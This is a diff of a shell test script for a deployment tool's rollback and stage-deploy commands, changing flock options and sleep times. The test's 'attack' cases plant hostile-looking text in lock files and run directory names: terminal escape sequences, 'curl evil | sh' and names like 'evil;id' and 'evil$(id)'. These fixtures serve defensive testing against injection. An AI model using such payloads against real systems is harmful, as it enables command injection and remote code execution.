@@ -24,7 +24,7 @@ harmless() {
 
 attack "the lock's text holds escape sequences and something to type"
 printf 'v9.9.9, eve \033[2J\033]0;owned\007, 2026-01-01 00:00:00, x; curl evil | sh\n' >"$lock"
-start flock "$lock" sleep 30
+start flock -o "$lock" sleep 300
 held=$STARTED
 sleep 0.2
 try rollback --env prod --service "$SERVICE" --to v1.0.0 --yes
@@ -37,12 +37,12 @@ harmless
 printf 'v9.9.9, run loomrel cancel evil; curl evil, 2026-01-01 00:00:00, %s\n' "$(uuid)" >"$lock"
 try rollback --env prod --service "$SERVICE" --yes
 harmless
-kill "$held"
+stop "$held"
 
 attack "the log and the notices of a deploy that waits show the lock's text raw"
 printf 'v9.9.9, eve \033[2J\033]0;owned\007, 2026-01-01 00:00:00, x; curl evil | sh\n' \
     >"$T/stage/home/loom/$SERVICE/.git/loomrel.lock"
-start flock "$T/stage/home/loom/$SERVICE/.git/loomrel.lock" sleep 2
+start flock -o "$T/stage/home/loom/$SERVICE/.git/loomrel.lock" sleep 2
 version v1.1.1
 sleep 0.2
 try stage-deploy --service "$SERVICE" --tag v1.1.1
@@ -55,7 +55,7 @@ runs=$T/prod/state/prod/$SERVICE/runs
 for id in 'evil;id' 'evil$(id)' '-evil' "evil ${escape}[2J"; do
     mkdir -p "$runs/$id"
     touch "$runs/$id/started" "$runs/$id/alive"
-    start flock "$runs/$id/alive" sleep 20
+    start flock -o "$runs/$id/alive" sleep 300
 done
 sleep 0.2
 for command in "status --env prod" "rollback --env prod --service $SERVICE --yes" \
